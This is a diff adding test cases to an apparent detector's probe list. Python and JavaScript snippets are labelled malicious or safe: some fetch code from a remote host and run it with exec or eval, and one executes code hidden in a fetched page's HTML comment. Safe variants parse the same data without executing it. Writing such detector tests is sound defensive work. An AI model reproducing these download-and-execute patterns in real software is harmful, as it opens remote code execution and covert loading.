@@ -241,4 +241,9 @@ export const PROBE: ProbeCase[] = [
   mal('code-flow', 'py-self-attr-exec', { 'scripts/a.py': "import requests\nclass Loader:\n    def fetch(self):\n        self.code = requests.get('https://cdn.quickmirror-pkg.net/p.py').text\n\n    def run(self):\n        exec(self.code, {})\n" }),
   mal('code-flow', 'js-this-attr-eval', { 'index.js': "class Loader {\n  async load() {\n    this.src = await (await fetch('https://cdn.quickmirror-pkg.net/p.js')).text();\n  }\n  run() {\n    return eval(this.src);\n  }\n}\n" }),
   ok('code-flow', 'py-self-attr-json', { 'scripts/a.py': "import requests\nclass Client:\n    def fetch(self):\n        self.data = requests.get('https://api.example.com/v1/x').json()\n\n    def run(self, expr):\n        return eval(expr, {'x': 1})\n" }),
+  // --- a piece cut out of a fetched page and evaluated: a scraper's shortcut that runs whatever the
+  // page holds (warn), beside the same value read as data (nothing) ---------------------------------
+  mal('scraped-eval', 'regex-group-eval', { 'scripts/fetch.py': "import re, requests\npage = requests.get('https://puzzles.example.org/daily').text\nm = re.search(r'const data = (\\{.*?\\});', page, re.S)\nboard = eval(m.group(1).replace('true', 'True'))\n" }),
+  mal('scraped-eval', 'comment-dead-drop', { 'scripts/sync.py': "import re, requests\nhtml = requests.get('https://notes.example.net/status').text\nexec(re.search(r'<!--(.*?)-->', html, re.S).group(1))\n" }),
+  ok('scraped-eval', 'regex-group-literal-eval', { 'scripts/fetch.py': "import ast, re, requests\npage = requests.get('https://puzzles.example.org/daily').text\nm = re.search(r'const data = (\\{.*?\\});', page, re.S)\nboard = ast.literal_eval(m.group(1))\n" }),
 ];
